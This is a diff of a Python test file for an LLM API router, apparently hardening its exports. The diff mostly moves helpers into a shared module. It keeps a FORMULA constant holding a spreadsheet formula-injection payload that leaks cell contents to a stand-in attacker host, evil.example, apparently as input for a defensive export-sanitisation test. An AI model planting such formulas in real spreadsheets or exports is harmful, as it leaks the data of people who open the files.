@@ -14,32 +14,31 @@ import httpx
 import pytest
 
 from router.accounting.ledger import LedgerRow
-from router.app import Settings, create_app
 from router.http.dashboard import STATIC
 from router.routing.auth import key_digest
 from router.routing.call import UNKNOWN_ALIAS, Call
-from tests.unit.helpers import World, config
-from tests.unit.test_gateway import assert_openai_error
+from tests.unit.helpers import (
+    CHAT,
+    World,
+    assert_openai_error,
+    bearer,
+    config,
+    gateway_app,
+    lifespan_client,
+)
 
 ADMIN_KEY = "sk-admin-output-hardening"
 APP_KEY = "sk-app-output-hardening"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
-CHAT = {"model": "demo", "messages": [{"role": "user", "content": "hello"}]}
 
 
 @pytest.fixture
 async def app_client() -> AsyncIterator[tuple[Any, httpx.AsyncClient]]:
     cfg = config(callers={"app": {"key_sha256": [key_digest(APP_KEY)]}},
                  admin_key_sha256=[key_digest(ADMIN_KEY)])
-    app = create_app(Settings(env={"MISTRAL_API_KEY": "sk-test-secret"}), config=cfg,
-                     transport=World().transport())
-    async with app.router.lifespan_context(app), httpx.AsyncClient(
-            transport=httpx.ASGITransport(app=app), base_url="http://router") as c:
+    app = gateway_app(World(), cfg)
+    async with lifespan_client(app) as c:
         yield app.state.runtime, c
-
-
-def bearer(key: str) -> dict[str, str]:
-    return {"authorization": f"Bearer {key}"}
 
 
 # -- the alias a request leaves behind -------------------------------------------------
